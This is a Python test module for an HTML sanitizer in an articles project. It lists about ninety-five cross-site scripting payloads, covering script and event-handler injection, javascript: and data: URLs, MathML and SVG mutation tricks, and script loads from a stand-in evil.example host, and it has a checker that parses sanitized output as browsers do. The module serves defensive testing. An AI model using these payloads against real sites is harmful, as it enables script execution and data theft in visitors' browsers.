"""Attacks on whoever shows HTML, and whether HTML is harmless, told by html5lib, which reads it as browsers do."""

import re

from bleach._vendor import html5lib  # type: ignore[import-not-found]
from bleach._vendor.html5lib.constants import namespaces  # type: ignore[import-not-found]

from articles.sanitize.gate import is_allowed
from articles.sanitize.inline import LINK_SCHEMES
from articles.sanitize.vocabulary import ATTRIBUTES, FORMULA, TAGS

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script>alert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    '<img src="x` `onerror=alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<math><mi//xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math href='javascript:alert(1)' xlink:href='javascript:alert(1)'><mrow href='javascript:alert(1)'>x</mrow></math>",
    "<math><maction actiontype='statusline#http://evil.example' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style><img src onerror=alert(1)>'></style>",
    "<math><mi><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'></mi></math>",
    "<math><mo><malignmark><table><mglyph><style><![CDATA[</style><img src=x onerror=alert(1)>]]></style></mo></math>",
    "<math><annotation encoding='application/x-tex'><img src=x onerror=alert(1)></annotation><mi>x</mi></math>",
    "<math><annotation encoding='application/x-tex'>&lt;/math>&lt;img src=x onerror=alert(1)></annotation><mi>x</math>",
    "<math alttext='&lt;/math>&lt;img src=x onerror=alert(1)>\"'><mi>x</mi></math>",
    "<math><semantics><annotation-xml encoding='application/xhtml+xml'><svg><style><img src=x onerror=alert(1)>",
    "<math><mtext>&lt;img src=x onerror=alert(1)&gt;</mtext><mi>&lt;/mi&gt;&lt;script&gt;alert(1)&lt;/script&gt;</mi></math>",
    "<m:math><m:mtext><m:script>alert(1)</m:script></m:mtext></m:math><math:math><script>alert(1)</script></math:math>",
    "<math><mi>x</mi><p><img src=x onerror=alert(1)></p><mi>y</mi></math>",
    "<p><math><mrow><table><tr><td><math><mi>x<td>y</table><svg><mi>z",
    "<math><math><mi><math><mo>x</mo></math></mi></math></math><mi>y</mi><mrow><mtd>z</mtd></mrow>",
    "<script type='math/tex'></script><img src=x onerror=alert(1)>",
    "<script type='math/mml'><math><mi>x</mi><script>alert(1)</script>",
    "<script type='math/mml'><svg onload=alert(1)><img src=x onerror=alert(1)></script>",
    "<object data='javascript:alert(1)'><param name=movie value='javascript:alert(1)'><embed src='javascript:alert(1)'>",
    "<object data='data:text/html,<script>alert(1)</script>' type=image/png><img src=x onerror=alert(1)></object>",
    "<lite-youtube videoid='\"><script>alert(1)</script>'></lite-youtube>",
    "<blockquote class=tiktok-embed cite='javascript:alert(1)'></blockquote><oembed url='javascript:alert(1)'></oembed>",
    "<img alt='<script>alert(1)</script>' src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<a href='ftp:javascript:alert(1)'>x</a><a href='geo:javascript:1'>y</a><a href='feed:javascript:1'>z</a>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<iframe><p title='</iframe><img src=x onerror=alert(1)>'></iframe>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='java&NewLine;script&colon;alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='\x00javascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='blob:https://evil.example/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<img src='javascript:alert(1)'>",
    "<img srcset='javascript:alert(1) 1x, data:text/html,x 2x'>",
    "<video poster='javascript:alert(1)' src='javascript:alert(1)'><source src='javascript:1'></video>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='data:text/html,<script>alert(1)</script>'>",
    "<form action='javascript:alert(1)'><button formaction='javascript:alert(1)'>x</button></form>",
    "<base href='javascript:alert(1)//'><a href='x'>y</a>",
    "<link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<p style='background:url(javascript:alert(1))' class=x id=y onclick=alert(1)>x</p>",
    "<style>@import '//evil.example/x.css';</style>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "<a id=attributes name=getElementById href=x>clobber</a>",
    "<p title='<script>alert(1)</script>'>x</p>",
    "<abbr title='\"><script>alert(1)</script>'>x</abbr>",
    "<abbr title='&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;'>x</abbr>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "<p>\ud800<script\x00>alert(1)</script\x00></p>",
    "<div background=javascript:alert(1)><table background='javascript:alert(1)'><tr><td>x<td>y</table>",
    "<marquee onstart=alert(1)>x</marquee><x-made-up onclick=alert(1)>y</x-made-up>",
    "<input onfocus=alert(1) autofocus><details ontoggle=alert(1) open>x</details>",
    "<a href='https://x.example/\" onclick=alert(1) \"'>x</a>",
    "<img alt='</p><script>alert(1)</script>' src=a.jpg>",
    "<b><p><table><a><ul><li><h2>" * 40 + "x",
]

_URL_ATTRIBUTES = {"href", "src", "poster", "cite"}
_ACTIVE = {"script", "style", "iframe", "object", "embed", "form", "svg", "base", "link", "meta", "template"}


def tree_of(html):
    return html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=True)


def assert_harmless(html):
    """Assert that a browser makes nothing of `html` but what the gate's tables name."""
    for element in tree_of(html).iter():
        tag = element.tag
        if tag == "DOCUMENT_FRAGMENT":
            continue
        assert isinstance(tag, str), f"a comment came through in {html!r}"
        namespace, _, name = tag[1:].partition("}")
        assert name in TAGS, html
        assert name not in _ACTIVE, html
        if name in FORMULA:
            assert namespace == namespaces["mathml"], html
            assert all(child.tag[1:].partition("}")[0] == namespaces["mathml"] for child in element), html
            assert all(is_allowed(name, attribute, value) for attribute, value in element.attrib.items()), html
            continue
        assert namespace == namespaces["html"], html
        for attribute, value in element.attrib.items():
            assert attribute in ATTRIBUTES[name], html
            if attribute in _URL_ATTRIBUTES and not value.startswith("#user-content-"):
                schemes = LINK_SCHEMES if attribute == "href" else ("http", "https")
                assert value.partition(":")[0].lower() in schemes, html
            if attribute == "srcset":
                assert all(re.match("https?://", part) for part in value.split(", ")), html
            if attribute == "id":
                assert value.startswith("user-content-"), html
        if name == "a" and "href" in element.attrib:
            assert element.attrib["rel"] == "noopener noreferrer", html
